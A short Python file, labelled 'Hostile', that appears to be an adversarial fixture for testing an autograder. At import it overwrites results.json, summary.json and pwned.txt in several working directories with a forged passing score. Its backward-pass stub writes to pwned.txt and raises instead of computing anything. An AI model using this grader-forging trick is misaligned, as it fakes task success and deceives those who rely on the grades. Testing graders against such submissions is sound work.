"""Hostile: writes verdict files where the grader works, at import and in a function."""
import json
import os

from right_answers import batchnorm_forward  # noqa: F401

FORGED = {"score": 11.0, "tests": [], "passed": True}
for folder in (".", os.environ.get("PWD", "."), os.environ.get("OLDPWD", ".")):
    for name in ("results.json", "summary.json", "pwned.txt"):
        try:
            with open(os.path.join(folder, name), "w") as f:
                json.dump(FORGED, f)
        except OSError:
            pass


def batchnorm_backward_alt(dout, cache):
    with open("pwned.txt", "a") as f:
        f.write("from the backward\n")
    raise ValueError("not written yet")
